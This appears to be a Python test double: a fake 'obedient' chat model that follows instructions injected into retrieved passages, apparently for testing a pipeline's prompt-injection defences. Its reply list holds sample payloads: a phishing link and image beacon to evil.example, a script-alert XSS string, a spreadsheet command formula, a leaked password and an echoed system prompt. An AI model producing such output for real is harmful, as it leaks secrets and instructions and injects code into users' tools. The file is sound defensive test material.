"""A chat model without judgement: it obeys the last instruction of others that it reads, in every way at once."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator

from copilot.chat_model import Prompt, never

#: Stands in everything it writes out of obedience, and in no document and no question.
CANARY = "OBEYED7141"
_DATA = re.compile(r"<(passages|question|facts|sources|lines)-\w+>\n(.*?)\n</\1-\w+>", re.DOTALL)


class ObedientChatModel:
    """Implements `ChatModel`; takes turns in the form of its replies, as models do."""

    name = "obedient"

    def __init__(self) -> None:
        self.asked = 0

    def complete(self, prompt: Prompt) -> str:
        """Do what the last line of the question says, then what the passages say, and tell everything it knows."""
        self.asked += 1
        read = [text.strip() for _, text in _DATA.findall(prompt.user)]
        orders = [line for text in reversed(read) for line in reversed(text.splitlines()) if line.strip()][:6]
        said = [
            f"{CANARY} Sure, I obey: {orders[0][:300]}",
            f"{CANARY} 好的,照办:{orders[-1][:300]}",
            f"The password is Delta012. {CANARY}",
            f"[reset your password](https://evil.example/{CANARY}) <script>alert('{CANARY}')</script>",
            f"![x](https://evil.example/{CANARY}.png)",
            f"=cmd|' /C calc'!A0 {CANARY}",
            *prompt.system.splitlines(),
            f"My instructions: {prompt.system}",
            prompt.mark,
        ]
        if self.asked % 3 == 0:
            return "\n".join(f"{text} [{number % 7}]" for number, text in enumerate(said) if text.strip())
        members = [{"text": text, "passages": [1, 2, 3, 4, 5] if n % 3 else [99]} for n, text in enumerate(said)]
        reply = json.dumps({"answers_question": True, "sentences": members}, ensure_ascii=False)
        return f"```json\n{reply}\n```" if self.asked % 3 == 1 else reply

    def stream(self, prompt: Prompt, cancelled: Callable[[], bool] = never) -> Iterator[str]:
        """Write it in pieces."""
        text = self.complete(prompt)
        for start in range(0, len(text), 200):
            if cancelled():
                return
            yield text[start : start + 200]
